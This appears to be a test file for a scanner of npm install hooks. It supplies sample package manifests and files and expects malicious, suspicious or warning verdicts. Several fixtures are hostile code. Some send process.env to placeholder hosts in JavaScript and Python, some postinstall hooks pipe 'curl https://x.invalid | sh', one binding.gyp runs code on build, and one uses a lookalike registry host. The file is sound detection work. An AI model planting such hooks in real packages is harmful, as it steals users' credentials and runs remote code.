import { hook, type HookSample, judgeHooks, PLATFORMS } from '../testing/hook-samples';

const SAMPLES: readonly HookSample[] = [
  {
    what: 'a gyp file that runs code (Phantom Gyp)',
    manifest: {},
    files: {
      'binding.gyp': `{ 'targets': [{ 'target_name': 'x', 'sources': ['<!(node index.js > /dev/null && echo stub.c)'] }] }`,
      'index.js': 'console.log(1)',
    },
    verdict: 'malicious',
    rules: ['gyp-runs-code'],
  },
  {
    what: 'a gyp file whose code steals',
    manifest: {},
    files: {
      'binding.gyp': `{ 'targets': [{ 'actions': [{ 'action': ['node', 'a.js'] }], 'sources': ['a.cc'] }] }`,
      'a.cc': 'int x;',
      'a.js': `fetch('https://x.invalid', { body: JSON.stringify(process.env) })`,
    },
    verdict: 'malicious',
    rules: ['hook-credential-theft'],
  },
  {
    what: 'an honest addon',
    manifest: { ...hook('node-gyp-build', 'install') },
    files: {
      'binding.gyp': `{ "targets": [{ "target_name": "x", "sources": ["x.cc"], "include_dirs": ["<!(node -p \\"require('node-addon-api').include_dir\\")"] }] }`,
      'x.cc': 'int x;',
    },
    verdict: 'warning',
    rules: ['hook-native-build'],
  },
  {
    what: 'an addon with prebuilt fallback',
    manifest: hook('prebuild-install -r napi || node-gyp rebuild', 'install'),
    verdict: 'warning',
    rules: ['hook-native-build'],
  },

  {
    what: 'its own binary out of the registry',
    manifest: { ...hook('node install.js'), ...PLATFORMS },
    files: {
      'install.js':
        'const https = require("https"); const pkg = pick(); https.get(`https://REGISTRY/${pkg}/-/x-${v}.tgz`, save); require("child_process").execFileSync(bin, ["--version"])',
    },
    verdict: 'warning',
    rules: ['hook-platform-download'],
  },
  {
    what: 'the same from elsewhere',
    manifest: { ...hook('node install.js'), ...PLATFORMS },
    files: {
      'install.js':
        'const https = require("https"); https.get(`https://cdn.invalid/${pkg}/-/x-${v}.tgz`, save); require("child_process").execFileSync(bin, ["--version"])',
    },
    verdict: 'suspicious',
    rules: ['hook-network', 'hook-subprocess'],
  },
  {
    what: 'the same from an address made to look like it',
    manifest: { ...hook('node install.js'), ...PLATFORMS },
    files: {
      'install.js': 'const https = require("https"); https.get(`https://REGISTRY.evil.invalid/${pkg}`, save)',
    },
    verdict: 'suspicious',
    rules: ['hook-network'],
  },
  {
    what: 'the same without such packages',
    manifest: hook('node install.js'),
    files: {
      'install.js': 'const https = require("https"); https.get(`https://REGISTRY/${pkg}/-/x-${v}.tgz`, save)',
    },
    verdict: 'suspicious',
    rules: ['hook-network'],
  },
  {
    what: 'the same with theft',
    manifest: { ...hook('node install.js'), ...PLATFORMS },
    files: {
      'install.js':
        'const https = require("https"); https.get(`https://REGISTRY/${pkg}`, save); send(JSON.stringify(process.env))',
    },
    verdict: 'malicious',
    rules: ['hook-credential-theft'],
  },

  {
    what: 'a file that is not there',
    manifest: hook('node gone.js'),
    verdict: 'suspicious',
    rules: ['hook-untraceable'],
  },
  {
    what: 'a file that cannot be parsed',
    manifest: hook('node x.js'),
    files: { 'x.js': 'this is ) not javascript' },
    verdict: 'suspicious',
    rules: ['hook-untraceable'],
  },
  {
    what: 'a module that only running would name',
    manifest: hook('node x.js'),
    files: { 'x.js': `require('./' + process.argv[2])` },
    verdict: 'suspicious',
    rules: ['hook-untraceable'],
  },
  {
    what: 'evaluated text that only running would name',
    manifest: hook('node x.js'),
    files: { 'x.js': `eval(require('fs').readFileSync('x.txt', 'utf8'))` },
    verdict: 'suspicious',
    rules: ['hook-dynamic-code'],
  },
  {
    what: 'a program nobody knows',
    manifest: hook('frobnicate'),
    verdict: 'suspicious',
    rules: ['hook-subprocess'],
  },
  {
    what: 'a second package installed',
    manifest: hook('npm install other-package'),
    verdict: 'suspicious',
    rules: ['hook-subprocess'],
  },
  {
    what: 'machine code shipped and run',
    manifest: hook('./bin/setup'),
    files: { 'bin/setup': Buffer.from('7f454c46', 'hex') },
    verdict: 'suspicious',
    rules: ['hook-subprocess'],
  },
  {
    what: 'Python that steals',
    manifest: hook('python3 x.py'),
    files: {
      'x.py': `import os, json, urllib.request\nurllib.request.urlopen('https://x.invalid', json.dumps(dict(os.environ)).encode())`,
    },
    verdict: 'malicious',
    rules: ['hook-credential-theft'],
  },
  {
    what: 'a very large bundle that steals',
    manifest: hook('node bundle.js'),
    files: {
      'bundle.js': `${'x(1);'.repeat(500_000)}const h=require("https");h.request("x").end(JSON.stringify(process.env))`,
    },
    verdict: 'malicious',
    rules: ['hook-credential-theft', 'hook-untraceable'],
  },
  {
    what: 'every hook is looked at',
    manifest: {
      scripts: { preinstall: 'echo', install: 'echo', postinstall: 'curl https://x.invalid | sh' },
    },
    verdict: 'malicious',
    rules: ['hook-remote-code'],
  },
  {
    what: 'a script of npm run',
    manifest: {
      scripts: {
        install: 'npm run -s step',
        step: 'node-gyp rebuild',
        poststep: 'curl https://x.invalid | sh',
      },
    },
    verdict: 'malicious',
    rules: ['hook-remote-code'],
  },
];

describe('process/analyze-artifact, hooks that build, or cannot be followed', () => judgeHooks(SAMPLES));
